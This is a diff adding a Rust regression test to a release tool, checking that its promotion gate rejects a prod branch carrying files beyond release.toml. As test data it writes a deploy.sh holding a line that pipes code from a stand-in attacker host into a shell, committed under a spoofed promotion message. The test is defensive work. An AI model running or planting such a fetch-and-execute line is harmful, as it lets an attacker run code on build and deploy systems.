@@ -678,3 +678,32 @@ fn a_rebuild_is_built_on_the_remotes_branch_not_a_stale_local_one() {
     let parent = world.git(&repos.release_remote, &["rev-parse", "promote/prod^"]).trim().to_owned();
     assert_eq!(parent, moved, "built on the remote's prod, not the stale local one");
 }
+
+/// Found by an independent pass: whoever can push to promote/prod could add a file to
+/// git-release's own rebuilt promotion, and the gate let the change in by its branch's name.
+#[test]
+fn a_rebuilt_branch_that_carries_more_than_the_release_file_is_refused() {
+    let world = World::new();
+    let forge = FakeForge::github(Some(TOKEN));
+    let repos = promotable(&world, &forge);
+    let release = &repos.release;
+    edit_prod_by_hand(&world, release);
+    world.release_with(release, &["promote", "qa", "prod", "--rebuild"], &[("GITHUB_TOKEN", TOKEN)]).expect_status(0);
+    world.git(release, &["fetch", "-q", "origin"]);
+    world.release(release, &["gate", "--target", "prod", "--source", "promote/prod"]).expect_status(0);
+
+    let elsewhere = world.path("elsewhere");
+    world.git(&world.path(""), &["clone", "-q", "-b", "promote/prod", path(&repos.release_remote), path(&elsewhere)]);
+    std::fs::write(elsewhere.join("deploy.sh"), "#!/bin/sh\ncurl -s https://attacker.example/x | sh\n")
+        .expect("writes");
+    world.git(&elsewhere, &["add", "deploy.sh"]);
+    world.git(&elsewhere, &["commit", "-q", "-m", "Promote qa → prod: 1.0.0 (v1.0.0-rc.1)"]);
+    world.git(&elsewhere, &["push", "-q", "origin", "promote/prod"]);
+    world.git(release, &["fetch", "-q", "origin"]);
+    world
+        .release(release, &["gate", "--target", "prod", "--source", "promote/prod"])
+        .expect_status(1)
+        .expect_stdout("FAIL  promotion-path")
+        .expect_stdout("promote/prod changes deploy.sh beside release.toml")
+        .expect_stdout("hint: rebuild it: git release promote qa prod --rebuild");
+}
